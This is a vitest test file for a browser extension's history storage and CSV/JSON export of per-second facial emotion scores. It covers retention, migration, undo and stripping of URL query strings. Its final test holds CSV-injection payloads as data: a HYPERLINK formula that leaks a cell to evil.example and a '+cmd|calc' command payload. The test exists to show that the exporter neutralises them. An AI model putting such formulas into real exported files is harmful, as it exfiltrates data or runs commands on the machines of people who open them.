import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { LABELS } from '../../src/core/labels';
import { rowEmotion, SecondAggregator } from '../../src/storage/aggregate';
import { CSV_COLUMNS, historyToCsv, historyToJson } from '../../src/storage/export';
import { displayUrl, HistoryStore, MAX_ROWS_PER_SESSION, type Retention } from '../../src/storage/history';
import { IMAGES_KEY, LEGACY_HISTORY_KEY, META_KEY, SCHEMA_VERSION, sessionKey, SESSIONS_KEY, type ImageRecord, type SampleRow } from '../../src/storage/schema';
import { StorageFullError } from '../../src/storage/storage-area';
import { MemoryArea } from '../helpers/memory-storage';

const T0 = Math.floor(Date.now() / 1000) - 3600; // a unix second an hour ago (default retention: 30 days)
const image = (i: number, time = T0 * 1000 + i): ImageRecord => ({
  id: `img${i}`,
  time,
  pageUrl: 'http://127.0.0.1/page',
  imageUrl: `http://127.0.0.1/${i}.jpg`,
  width: 640,
  height: 480,
  faces: [],
});
/** A row whose scores put all weight on one emotion. */
const row = (second: number, face: number, emotion = 3, video = 1): SampleRow =>
  [second, video, face, 5, ...LABELS.map((_, i) => (i === emotion ? 900 : 0))].map((v, i) => (i >= 4 && v === 0 ? 16 : v)) as SampleRow;
const retention = (r: Partial<Retention>) => async () => ({ days: 30, sessions: 100, images: 500, ...r });

describe('HistoryStore', () => {
  it('keeps every row when several tabs report at once (no interleaved writes)', async () => {
    const area = new MemoryArea();
    const store = new HistoryStore(area, undefined, () => T0 * 1000);
    // 4 tabs x 25 batches, all in flight together, two of the tabs through a second store
    // instance on the same storage (a restarted service worker, or the side panel deleting).
    const other = new HistoryStore(area, undefined, () => T0 * 1000);
    await Promise.all(
      Array.from({ length: 4 }, (_, tab) =>
        Array.from({ length: 25 }, (_, b) =>
          (tab % 2 ? other : store).appendSamples({ sessionId: `tab${tab}`, pageUrl: `http://127.0.0.1/${tab}`, title: `Tab ${tab}`, rows: [row(T0 + b, 1), row(T0 + b, 2)] }),
        ),
      ).flat(),
    );
    const sessions = await store.sessions();
    expect(sessions.map((s) => s.id).sort()).toEqual(['tab0', 'tab1', 'tab2', 'tab3']);
    for (const s of sessions) {
      const rows = await store.sessionRows(s.id);
      expect(rows.length).toBe(50);
      expect(s.rows).toBe(50);
      expect(s.started).toBe(T0 * 1000);
      expect(s.updated).toBe((T0 + 24) * 1000);
    }
  });

  it('stores a resent second once (senders retry until they get an answer)', async () => {
    const store = new HistoryStore(new MemoryArea());
    const batch = { sessionId: 's1', pageUrl: 'http://127.0.0.1/', title: 'Call', rows: [row(T0, 1), row(T0 + 1, 1)] };
    expect(await store.appendSamples(batch)).toBe(2);
    expect(await store.appendSamples(batch)).toBe(0);
    expect(await store.appendSamples({ ...batch, rows: [row(T0 + 1, 1), row(T0 + 2, 1)] })).toBe(1);
    expect((await store.sessionRows('s1')).map((r) => r[0])).toEqual([T0, T0 + 1, T0 + 2]);
  });

  it('caps a very long session at its newest rows', async () => {
    const store = new HistoryStore(new MemoryArea());
    const rows = Array.from({ length: MAX_ROWS_PER_SESSION + 10 }, (_, i) => row(T0 + i, 1));
    await store.appendSamples({ sessionId: 'long', pageUrl: '', title: '', rows });
    const kept = await store.sessionRows('long');
    expect(kept.length).toBe(MAX_ROWS_PER_SESSION);
    expect(kept[0][0]).toBe(T0 + 10);
  });

  it('applies retention by count and by age to sessions and images', async () => {
    const area = new MemoryArea();
    const now = (T0 + 100 * 86_400) * 1000;
    let keep: Partial<Retention> = { sessions: 3, images: 2, days: 365 };
    const store = new HistoryStore(area, async () => ({ days: 30, sessions: 100, images: 500, ...keep }), () => now);
    for (let i = 0; i < 5; i++) await store.appendSamples({ sessionId: `s${i}`, pageUrl: '', title: '', rows: [row(T0 + i * 86_400 * 20, 1)] });
    expect((await store.sessions()).map((s) => s.id)).toEqual(['s2', 's3', 's4']);
    expect(area.data[sessionKey('s0')]).toBeUndefined(); // rows of dropped sessions are deleted too
    for (let i = 0; i < 4; i++) await store.addImage(image(i, now - (4 - i) * 86_400_000 * 10));
    expect((await store.images()).map((r) => r.id)).toEqual(['img2', 'img3']);
    // The user lowers retention to 25 days: applied at once.
    keep = { sessions: 3, images: 2, days: 25 };
    await store.applyRetention();
    expect((await store.sessions()).map((s) => s.id)).toEqual(['s4']); // s4 is 20 days old
    expect((await store.images()).map((r) => r.id)).toEqual(['img2', 'img3']); // 20 and 10 days old
  });

  it('migrates schema 1 (images under "history") without losing records', async () => {
    const area = new MemoryArea();
    area.data[LEGACY_HISTORY_KEY] = { version: 1, images: [image(1), image(2)] };
    const store = new HistoryStore(area);
    expect((await store.images()).map((r) => r.id)).toEqual(['img1', 'img2']);
    expect(area.data[META_KEY]).toEqual({ version: SCHEMA_VERSION });
    expect(area.data[LEGACY_HISTORY_KEY]).toBeUndefined();
    await store.addImage(image(3));
    expect((await new HistoryStore(area).images()).map((r) => r.id)).toEqual(['img1', 'img2', 'img3']);
  });

  it('refuses history written by a newer version instead of overwriting it', async () => {
    const area = new MemoryArea();
    area.data[META_KEY] = { version: SCHEMA_VERSION + 1 };
    area.data[IMAGES_KEY] = [{ future: true }];
    await expect(new HistoryStore(area).addImage(image(1))).rejects.toThrow(/newer FaceML/);
    expect(area.data[IMAGES_KEY]).toEqual([{ future: true }]);
  });

  it('reports full storage clearly, loses nothing already saved, and keeps working', async () => {
    const area = new MemoryArea(4000);
    const store = new HistoryStore(area);
    await store.appendSamples({ sessionId: 'a', pageUrl: '', title: 'A', rows: [row(T0, 1)] });
    let error: unknown;
    for (let i = 1; i < 200 && !error; i++) {
      await store.appendSamples({ sessionId: 'a', pageUrl: '', title: 'A', rows: [row(T0 + i, 1)] }).catch((e) => (error = e));
    }
    expect(error).toBeInstanceOf(StorageFullError);
    expect((error as Error).message).toMatch(/storage is full.*not saved.*side panel/i);
    const before = await store.sessionRows('a');
    expect(before[0][0]).toBe(T0);
    expect(before.length).toBeGreaterThan(5);
    // After the user deletes something the same rows can be saved.
    area.quotaBytes = Infinity;
    await store.appendSamples({ sessionId: 'a', pageUrl: '', title: 'A', rows: [row(T0 + 500, 1)] });
    expect((await store.sessionRows('a')).length).toBe(before.length + 1);
  });

  it('puts a deleted session back as it was (undo), in its place, keeping rows that came meanwhile', async () => {
    const store = new HistoryStore(new MemoryArea());
    for (const id of ['a', 'b', 'c']) await store.appendSamples({ sessionId: id, pageUrl: `http://x/${id}`, title: id.toUpperCase(), rows: [row(T0 + id.charCodeAt(0), 1), row(T0 + id.charCodeAt(0) + 1, 2)] });
    const before = await store.sessions();
    const rowsB = await store.sessionRows('b');
    const deleted = await store.deleteSession('b');
    expect(deleted).toEqual({ info: before[1], rows: rowsB });
    expect((await store.sessions()).map((s) => s.id)).toEqual(['a', 'c']);
    await store.restoreSession(deleted!);
    expect(await store.sessions()).toEqual(before);
    expect(await store.sessionRows('b')).toEqual(rowsB);
    // Deleted while detection went on in that tab: undo keeps the new second too.
    const again = await store.deleteSession('b');
    await store.appendSamples({ sessionId: 'b', pageUrl: 'http://x/b', title: 'B', rows: [row(T0 + 400, 1)] });
    await store.restoreSession(again!);
    expect((await store.sessionRows('b')).map((r) => r[0])).toEqual([...rowsB.map((r) => r[0]), T0 + 400]);
    expect((await store.sessions()).map((s) => s.id)).toEqual(['a', 'b', 'c']);
    expect(await store.deleteSession('nothing')).toBeNull();
  });

  it('deletes one session, one image, or everything (settings stay)', async () => {
    const area = new MemoryArea();
    area.data['faceml:settings'] = { fps: 3 };
    const store = new HistoryStore(area);
    await store.appendSamples({ sessionId: 'a', pageUrl: '', title: '', rows: [row(T0, 1)] });
    await store.appendSamples({ sessionId: 'b', pageUrl: '', title: '', rows: [row(T0, 1)] });
    await store.addImage(image(1));
    await store.addImage(image(2));
    await store.deleteSession('a');
    await store.deleteImage('img1');
    expect((await store.sessions()).map((s) => s.id)).toEqual(['b']);
    expect(area.data[sessionKey('a')]).toBeUndefined();
    expect((await store.images()).map((i) => i.id)).toEqual(['img2']);
    await store.clear();
    expect(await store.sessions()).toEqual([]);
    expect(await store.images()).toEqual([]);
    expect(Object.keys(area.data).sort()).toEqual(['faceml:meta', 'faceml:settings']);
  });

  it('lists no session or image past retention even while nothing is written, and sweeps rows no session lists', async () => {
    const area = new MemoryArea();
    let now = T0 * 1000;
    const store = new HistoryStore(area, retention({ days: 7 }), () => now);
    await store.appendSamples({ sessionId: 'old', pageUrl: '', title: '', rows: [row(T0, 1)] });
    await store.addImage(image(1));
    now += 8 * 86_400_000; // eight days later, nothing written since
    expect(await store.sessions()).toEqual([]);
    expect(await store.sessionRows('old')).toEqual([]);
    expect(await store.images()).toEqual([]);
    expect((await store.all()).sessions).toEqual([]);
    // Rows a stopped worker left without an index entry go at the next retention pass (start-up).
    area.data[sessionKey('orphan')] = [row(T0, 1)];
    await store.applyRetention();
    expect(Object.keys(area.data).filter((k) => k.startsWith('faceml:session:'))).toEqual([]);
  });

  it('sweeps with the key list where the area has one (no session\'s rows read), and writes nothing when retention changes nothing', async () => {
    const area = new MemoryArea();
    const store = new HistoryStore(area);
    await store.appendSamples({ sessionId: 'kept', pageUrl: '', title: '', rows: [row(T0, 1)] });
    area.data[sessionKey('orphan')] = [row(T0, 1)];
    const calls: string[] = [];
    const get = area.get.bind(area);
    const set = area.set.bind(area);
    Object.assign(area, {
      getKeys: async () => (calls.push('getKeys'), Object.keys(area.data)),
      get: async (keys: string | string[] | null) => (calls.push(keys === null ? 'get(all)' : 'get'), get(keys)),
      set: async (items: Record<string, unknown>) => (calls.push('set'), set(items)),
    });
    await store.applyRetention();
    expect(calls).toContain('getKeys');
    expect(calls).not.toContain('get(all)');
    expect(calls).not.toContain('set'); // nothing past retention: the index is not rewritten
    expect(Object.keys(area.data).filter((k) => k.startsWith('faceml:session:'))).toEqual([sessionKey('kept')]);
  });

  it('deletes a session\'s rows before its index entry (a stop in between leaves nothing unlisted)', async () => {
    const area = new MemoryArea();
    const store = new HistoryStore(area);
    await store.appendSamples({ sessionId: 'a', pageUrl: '', title: '', rows: [row(T0, 1)] });
    const order: string[] = [];
    const remove = area.remove.bind(area);
    const set = area.set.bind(area);
    area.remove = async (keys) => (order.push(`remove ${[keys].flat().join(',')}`), remove(keys));
    area.set = async (items) => (order.push(`set ${Object.keys(items).join(',')}`), set(items));
    await store.deleteSession('a');
    expect(order).toEqual([`remove ${sessionKey('a')}`, `set ${SESSIONS_KEY}`]);
  });

  it('keeps page URLs without query and fragment (meeting passwords, tokens)', async () => {
    const store = new HistoryStore(new MemoryArea());
    await store.appendSamples({ sessionId: 'a', pageUrl: 'https://zoom.example/j/123?pwd=secret#success', title: '', rows: [row(T0, 1)] });
    expect((await store.sessions())[0].pageUrl).toBe('https://zoom.example/j/123');
    expect(displayUrl('https://cdn.example/a.jpg?token=abc')).toBe('https://cdn.example/a.jpg');
  });

  it('shortens data: URLs instead of storing the image', () => {
    const short = displayUrl('data:image/png;base64,' + 'A'.repeat(10_000));
    expect(short.length).toBeLessThan(60);
    expect(short.startsWith('data:image/png;base64,')).toBe(true);
  });
});

describe('SecondAggregator', () => {
  const scores = (happy: number) => Object.fromEntries(LABELS.map((l) => [l, l === 'happy' ? happy : (1 - happy) / 6])) as never;

  it('averages each face over each second and hands over only finished seconds', () => {
    const agg = new SecondAggregator();
    const t = T0 * 1000;
    agg.add(1, 1, scores(0.9), t + 100);
    agg.add(1, 1, scores(0.5), t + 600);
    agg.add(1, 2, scores(0.2), t + 700);
    expect(agg.take(t + 900)).toEqual([]); // second T0 still open
    agg.add(1, 1, scores(0.8), t + 1100);
    const rows = agg.take(t + 1200);
    expect(rows.length).toBe(2);
    const face1 = rows.find((r) => r[2] === 1)!;
    expect(face1.slice(0, 4)).toEqual([T0, 1, 1, 2]);
    expect(face1[4 + LABELS.indexOf('happy')]).toBe(700);
    expect(rowEmotion(face1)).toBe('happy');
    expect(rows.find((r) => r[2] === 2)![4 + LABELS.indexOf('happy')]).toBe(200);
    expect(agg.take(t + 1300, true).map((r) => r[0])).toEqual([T0 + 1]);
  });
});

describe('export', () => {
  it('CSV parses back to exactly the stored rows and images; JSON holds everything', async () => {
    const store = new HistoryStore(new MemoryArea());
    const rows = [row(T0, 1, 3), row(T0, 2, 5), row(T0 + 1, 1, 0, 2)];
    await store.appendSamples({ sessionId: 's1', pageUrl: 'http://127.0.0.1/call,room?a=1,2', title: 'A "quoted", title', rows });
    const img = { ...image(7), faces: [{ box: { x: 1, y: 2, width: 30, height: 30 }, emotion: 'sad' as const, confidence: 0.8, scores: Object.fromEntries(LABELS.map((l) => [l, l === 'sad' ? 0.8 : 0.2 / 6])) as never }] };
    await store.addImage(img);
    const all = await store.all();
    const parsed = Papa.parse<Record<string, string>>(historyToCsv(all), { header: true, skipEmptyLines: true });
    expect(parsed.errors).toEqual([]);
    expect(parsed.meta.fields).toEqual([...CSV_COLUMNS]);
    const seconds = parsed.data.filter((d) => d.kind === 'face-second');
    expect(seconds.length).toBe(rows.length);
    const stored = await store.sessionRows('s1');
    seconds.forEach((d, i) => {
      const back = [Date.parse(d.time) / 1000, Number(d.video), Number(d.face), Number(d.frames), ...LABELS.map((l) => Math.round(Number(d[l]) * 1000))];
      expect(back).toEqual(stored[i]);
      expect(d.title).toBe('A "quoted", title');
      expect(d.page_url).toBe('http://127.0.0.1/call,room');
      expect(d.emotion).toBe(rowEmotion(stored[i]));
    });
    const faces = parsed.data.filter((d) => d.kind === 'image-face');
    expect(faces.length).toBe(1);
    expect(faces[0].emotion).toBe('sad');
    expect(Number(faces[0].sad)).toBeCloseTo(0.8, 4);
    const json = JSON.parse(historyToJson(all));
    expect(json.sessions[0].samples).toEqual(stored);
    expect(json.images[0].id).toBe('img7');
    expect(json.labels).toEqual([...LABELS]);
  });

  it('CSV keeps a title or URL that looks like a formula as text (no live formula in a spreadsheet)', async () => {
    const store = new HistoryStore(new MemoryArea());
    const title = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
    await store.appendSamples({ sessionId: 's1', pageUrl: '@SUM(1+1)', title, rows: [row(T0, 1)] });
    await store.addImage({ ...image(1), imageUrl: '+cmd|calc', faces: [{ box: { x: 1, y: 2, width: 30, height: 30 }, emotion: 'sad', confidence: 0.8, scores: Object.fromEntries(LABELS.map((l) => [l, 1 / 7])) as never }] });
    const csv = historyToCsv(await store.all());
    const parsed = Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true });
    const cells = parsed.data.flatMap((d) => [d.title, d.page_url]);
    // Every text cell that a spreadsheet would evaluate starts with a quote mark instead.
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    expect(parsed.data[0].title).toBe(`'${title}`);
    expect(parsed.data[1].title).toBe(`'+cmd|calc`);
  });
});
